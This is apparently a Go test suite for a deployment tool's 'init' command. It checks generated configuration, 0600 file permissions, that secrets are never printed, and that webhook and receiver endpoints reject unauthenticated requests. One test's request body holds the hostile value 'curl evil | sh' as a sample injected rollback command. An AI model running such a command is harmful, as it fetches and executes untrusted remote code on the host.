package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/otelcol"

	"github.com/deployloop/deployloop/internal/setup"
	"github.com/deployloop/deployloop/test/servertest"
)

// initIn runs deployloop init --yes in a folder of its own.
func initIn(t *testing.T, dir string, arguments ...string) (string, error) {
	t.Helper()
	t.Setenv(envStateDir, filepath.Join(dir, "state"))
	return execute(t, append([]string{"init", "--yes", "--file", filepath.Join(dir, "deployloop.yaml")}, arguments...)...)
}

// secretsSet puts what init wrote into the environment, as a shell would.
func secretsSet(t *testing.T, dir string) map[string]string {
	t.Helper()
	text, _ := os.ReadFile(filepath.Join(dir, "deployloop.env")) // none without secrets
	_, values := setup.EnvironmentFile(nil, string(text))
	for name, value := range values {
		t.Setenv(name, value)
	}
	return values
}

// Whatever is answered, what is written is valid, and is read with the secrets
// that were written beside it.
func TestInitWritesWhatIsValid(t *testing.T) {
	choices := [][][]string{
		{nil, {"--alertmanager", "http://127.0.0.1:9093", "--alertmanager", "http://user:p$ss@127.0.0.1:9094"}},
		{nil, {"--grafana", "https://grafana.example/sub/"}},
		{nil, {"--forge", "github"}, {"--forge", "gitlab", "--forge-endpoint", "https://gitlab.example"}, {"--forge", "gitea", "--forge-endpoint", "https://git.example"}},
		{nil, {"--backend", "tempo.example:4317"}, {"--backend", "http://127.0.0.1:4320"}},
		{nil, {"--webhook", "github"}, {"--webhook", strings.Join(setup.Sources, ","), "--cicd", "0.0.0.0:8088", "--otlp-http", "0.0.0.0:4318"}},
		{nil, {"--prometheus-remote-write", "http://127.0.0.1:9090/api/v1/write", "--console-url", "https://deploys.example", "--mode", "gate", "--repository", `*=/srv/git/"odd" name.git`}},
	}
	combinations := [][]string{nil}
	for _, options := range choices {
		var next [][]string
		for _, before := range combinations {
			for _, option := range options {
				next = append(next, append(append([]string(nil), before...), option...))
			}
		}
		combinations = next
	}
	require.Len(t, combinations, 2*2*4*3*3*2)
	for i, arguments := range combinations {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			dir := t.TempDir()
			_, err := initIn(t, dir, arguments...)
			require.NoError(t, err, arguments)
			secretsSet(t, dir)
			_, err = execute(t, "validate", "--config", filepath.Join(dir, "deployloop.yaml"))
			require.NoError(t, err, arguments)
		})
	}
}

// startWritten runs what was written until the test ends.
func startWritten(t *testing.T, dir string) {
	t.Helper()
	settings := collectorSettings()
	settings.DisableGracefulShutdown = true
	settings.ConfigProviderSettings.ResolverSettings.DefaultScheme = "env"
	settings.ConfigProviderSettings.ResolverSettings.URIs = []string{filepath.Join(dir, "deployloop.yaml"), "yaml:service::telemetry::metrics::level: none"}
	collector, err := otelcol.NewCollector(settings)
	require.NoError(t, err)
	ended := make(chan error, 1)
	go func() { ended <- collector.Run(context.Background()) }()
	require.Eventually(t, func() bool { return collector.GetState() == otelcol.StateRunning || len(ended) > 0 }, 20*time.Second, 10*time.Millisecond)
	t.Cleanup(func() {
		collector.Shutdown()
		require.NoError(t, <-ended)
	})
}

// The whole of it really starts, and stops.
func TestInitWritesWhatStarts(t *testing.T) {
	dir := t.TempDir()
	_, err := initIn(t, dir, "--alertmanager", "http://127.0.0.1:1", "--grafana", "http://127.0.0.1:1", "--forge", "github", "--backend", "127.0.0.1:1",
		"--webhook", strings.Join(setup.Sources, ","), "--cicd", "127.0.0.1:0", "--otlp-grpc", "127.0.0.1:0", "--otlp-http", "127.0.0.1:0", "--console", "127.0.0.1:0", "--metrics", "127.0.0.1:0")
	require.NoError(t, err)
	secretsSet(t, dir)
	startWritten(t, dir)
}

// A receiver on loopback that a proxy or tunnel opens takes nothing without proof,
// and this machine's own commands still reach it.
func TestInitGuardsAReceiverBehindAProxy(t *testing.T) {
	dir := t.TempDir()
	at := servertest.FreeAddress(t)
	printed, err := initIn(t, dir, "--public-url", "https://deploys.example", "--webhook", "github", "--cicd", at,
		"--otlp-grpc", "127.0.0.1:0", "--otlp-http", "127.0.0.1:0", "--console", "127.0.0.1:0", "--metrics", "127.0.0.1:0")
	require.NoError(t, err)
	require.Contains(t, printed, "DEPLOYLOOP_CICD_TOKEN")
	values := secretsSet(t, dir)
	require.NotEmpty(t, values["DEPLOYLOOP_CICD_TOKEN"])
	require.NotContains(t, printed, values["DEPLOYLOOP_CICD_TOKEN"], "a secret was printed")
	startWritten(t, dir)
	out, _ := execute(t, "doctor", "--config", filepath.Join(dir, "deployloop.yaml"))
	require.Contains(t, out, "takes deployments")
	require.Contains(t, out, "takes a ping with the secret, and none without")
	ask := func(method, path string) int {
		request, err := http.NewRequestWithContext(t.Context(), method, "http://"+at+path, strings.NewReader(`{"service":"checkout","revision":"9f2c1ab","rollback_command":"curl evil | sh"}`))
		require.NoError(t, err)
		request.Header.Set("Content-Type", "application/json")
		response, err := http.DefaultClient.Do(request)
		require.NoError(t, err)
		require.NoError(t, response.Body.Close())
		return response.StatusCode
	}
	for path, method := range map[string]string{"/v1/deployments": http.MethodPost, "/v1/reports": http.MethodPost, "/v1/deliveries": http.MethodGet, "/webhooks/github": http.MethodPost, "/webhooks/gitlab": http.MethodPost} {
		require.Equal(t, http.StatusUnauthorized, ask(method, path), path)
	}
	_, err = execute(t, "mark", "--endpoint", "http://"+at, "--service", "checkout", "--revision", "9f2c1ab")
	require.NoError(t, err, "with the token of the environment")
}

// Files are its owner's alone, nothing is overwritten unasked, and a secret that
// stands in a webhook elsewhere stays.
func TestInitKeepsWhatIsThere(t *testing.T) {
	dir := t.TempDir()
	printed, err := initIn(t, dir, "--webhook", "github", "--public-url", "https://deploys.example/")
	require.NoError(t, err)
	first := secretsSet(t, dir)["GITHUB_WEBHOOK_SECRET"]
	require.GreaterOrEqual(t, len(first), 26)
	require.NotContains(t, printed, first, "a secret was printed")
	require.Contains(t, printed, "https://deploys.example/webhooks/github\n")
	for _, name := range []string{"deployloop.yaml", "deployloop.env"} {
		info, err := os.Stat(filepath.Join(dir, name))
		require.NoError(t, err)
		require.Equal(t, os.FileMode(0o600), info.Mode().Perm(), name)
	}
	config, err := os.ReadFile(filepath.Join(dir, "deployloop.yaml"))
	require.NoError(t, err)
	require.NotContains(t, string(config), first)

	_, err = initIn(t, dir, "--webhook", "gitlab")
	require.ErrorContains(t, err, "--force")
	environment := filepath.Join(dir, "deployloop.env")
	text, err := os.ReadFile(environment)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(environment, append(text, "MINE='kept'\n"...), 0o600))
	_, err = initIn(t, dir, "--webhook", "github,gitlab", "--force")
	require.NoError(t, err)
	values := secretsSet(t, dir)
	require.Equal(t, first, values["GITHUB_WEBHOOK_SECRET"])
	require.Equal(t, "kept", values["MINE"])
	require.NotEmpty(t, values["GITLAB_WEBHOOK_SECRET"])
	require.NotEqual(t, first, values["GITLAB_WEBHOOK_SECRET"])
}

func TestInitRefuses(t *testing.T) {
	for _, c := range []struct {
		arguments []string
		want      string
	}{
		{[]string{"--mode", "loud"}, "--mode"},
		{[]string{"--alertmanager", "127.0.0.1:9093"}, "--alertmanager"},
		{[]string{"--forge", "gitea"}, "--forge-endpoint"},
		{[]string{"--webhook", "svn"}, "--webhook"},
		{[]string{"--console", "0.0.0.0:8090"}, "--console"},
		{[]string{"--repository", "checkout"}, "SERVICE=PATH"},
		{[]string{"--backend", "tempo"}, "--backend"},
	} {
		dir := t.TempDir()
		_, err := initIn(t, dir, c.arguments...)
		require.ErrorContains(t, err, c.want)
		left, err := os.ReadDir(dir)
		require.NoError(t, err)
		require.Empty(t, left, "something was written")
	}
}

func TestInitJSON(t *testing.T) {
	dir := t.TempDir()
	printed, err := initIn(t, dir, "--webhook", "flux", "--cicd", "0.0.0.0:8088", "--output", "json")
	require.NoError(t, err)
	var told struct {
		Webhooks  []setup.Webhook
		Variables []setup.Variable
		Next      []string
	}
	require.NoError(t, json.Unmarshal([]byte(printed), &told))
	require.Len(t, told.Webhooks, 1)
	require.Equal(t, "http://YOUR-HOST:8088/webhooks/flux", told.Webhooks[0].URL)
	require.Contains(t, told.Webhooks[0].Snippet, `address: "http://YOUR-HOST:8088/webhooks/flux"`)
	require.Contains(t, told.Webhooks[0].Snippet, `token="$FLUX_WEBHOOK_SECRET"`)
	require.Len(t, told.Variables, 2, "the webhook's and the receiver's")
	require.Len(t, told.Next, 3)
}

// The questions: a flag answers one, an answer that cannot be is asked again,
// and what is left empty stays.
func TestInitAsks(t *testing.T) {
	r := initRequest{
		answers: setup.Answers{Mode: "shadow", StateDir: t.TempDir(), OTLPGRPC: defaultOTLPGRPC, OTLPHTTP: defaultOTLPHTTP, CICD: defaultCICD, Console: defaultConsole, Metrics: defaultMetrics, SelfMetrics: defaultSelfMetrics},
		asked:   func(flag string) bool { return flag == "grafana" },
	}
	var out bytes.Buffer
	in := strings.Join([]string{
		"nonsense", "http://127.0.0.1:9093", // Alertmanager, twice
		"",                     // Prometheus
		"tempo.example:4317",   // back end
		"github gitlab",        // webhooks
		"https://deploys.test", // where they arrive
		"advise",               // mode
	}, "\n") + "\n"
	require.NoError(t, r.ask(strings.NewReader(in), &out))
	require.Equal(t, []string{"http://127.0.0.1:9093"}, r.answers.Alertmanagers)
	require.Empty(t, r.answers.RemoteWrite)
	require.Equal(t, "tempo.example:4317", r.answers.Backend)
	require.Equal(t, []string{"github", "gitlab"}, r.answers.Webhooks)
	require.Equal(t, "https://deploys.test", r.answers.PublicURL)
	require.Equal(t, "advise", r.answers.Mode)
	require.NotContains(t, out.String(), "Grafana")
	require.Contains(t, out.String(), `--alertmanager "nonsense"`)

	// The input ends: that is no consent.
	r.answers.Mode = "shadow"
	require.ErrorIs(t, r.ask(strings.NewReader(""), &out), errNobodyAnswers)
	require.Equal(t, "shadow", r.answers.Mode)
}

// With nobody to ask, nothing is written unless --yes says so; /dev/null looks like
// a terminal and is none.
func TestInitNeedsAnAnswer(t *testing.T) {
	null, err := os.Open(os.DevNull)
	require.NoError(t, err)
	defer null.Close()
	for _, in := range []io.Reader{null, strings.NewReader(""), strings.NewReader("\n\n\n\n\n\n\n")} {
		dir := t.TempDir()
		t.Setenv(envStateDir, filepath.Join(dir, "state"))
		root := newRootCommand()
		root.SetIn(in)
		root.SetOut(io.Discard)
		root.SetErr(io.Discard)
		root.SetArgs([]string{"init", "--file", filepath.Join(dir, "deployloop.yaml")})
		require.ErrorContains(t, root.ExecuteContext(t.Context()), "--yes")
		left, err := os.ReadDir(dir)
		require.NoError(t, err)
		require.Empty(t, left)
	}
}

func TestInitWarnsOfWhatIsNoRepository(t *testing.T) {
	dir := t.TempDir()
	printed, err := initIn(t, dir, "--repository", "checkout="+dir)
	require.NoError(t, err, "it may be another machine's path")
	require.Contains(t, printed, "warning: --repository checkout="+dir)
	path, _ := shopRepository(t)
	printed, err = initIn(t, t.TempDir(), "--repository", "checkout="+path)
	require.NoError(t, err)
	require.NotContains(t, printed, "warning")
}

// A setting is shown where its forge has one.
func TestInitShowsTheSettingsThatThereAre(t *testing.T) {
	for source, has := range map[string]bool{"github": true, "gitea": true, "gitlab": false, "jenkins": false} {
		printed, err := initIn(t, t.TempDir(), "--webhook", source)
		require.NoError(t, err)
		require.Equal(t, has, strings.Contains(printed, "content type"), source)
	}
}

// The Collector's own metrics leave a collector beside it its port.
func TestInitLeavesOtherCollectorsTheirPort(t *testing.T) {
	for arguments, want := range map[string]string{"": `host: "127.0.0.1", port: 8887,`, "--self-metrics=[::1]:9999": `host: "::1", port: 9999,`} {
		dir := t.TempDir()
		_, err := initIn(t, dir, strings.Fields(arguments)...)
		require.NoError(t, err)
		text, err := os.ReadFile(filepath.Join(dir, "deployloop.yaml"))
		require.NoError(t, err)
		require.Contains(t, string(text), want)
	}
}
